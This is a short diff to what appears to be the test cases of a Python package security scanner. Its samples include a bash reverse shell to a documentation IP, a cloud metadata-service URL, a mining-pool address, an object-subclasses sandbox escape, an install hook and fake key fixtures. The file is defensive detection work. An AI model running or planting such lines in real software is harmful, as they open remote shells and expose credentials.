@@ -75,6 +75,7 @@ KEY = "AKIA" + "QYLPMN5HHHFPZAM2"
 INSIDE = "__file__.startswith('/component')"
 PEM = "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n"
 
+# Building the wheel imports the code here, so none of it may do this process harm.
 SECURITY = [
     code("undeclared-network", "undeclared-network", "import socket"),
     code("undeclared-network-by-from", "undeclared-network", "from urllib.request import urlopen"),
@@ -105,7 +106,7 @@ SECURITY = [
     code("subclasses", "dteg-object-tricks", "def f():\n    return ().__class__.__base__.__subclasses__()"),
     code("installation-hook", "dteg-install-hook", "from setuptools.command.install import install\n\n\nclass Hook(install):\n    pass", near="class Hook"),
     code("installer", "dteg-installer", "def f():\n    import pip"),
-    code("replaced-builtin", "dteg-monkeypatch", "import builtins\n\nbuiltins.print = None"),
+    code("replaced-builtin", "dteg-monkeypatch", "import builtins\n\nbuiltins.copyright = None"),
     code("miner", "dteg-crypto-miner", "POOL = 'stratum+tcp://pool.example.com:3333'"),
     code("metadata-service", "dteg-cloud-metadata", "URL = 'http://169.254.169.254/latest'"),
     code("reverse-shell", "dteg-reverse-shell", "COMMAND = 'bash -i >& /dev/tcp/203.0.113.7/1 0>&1'"),
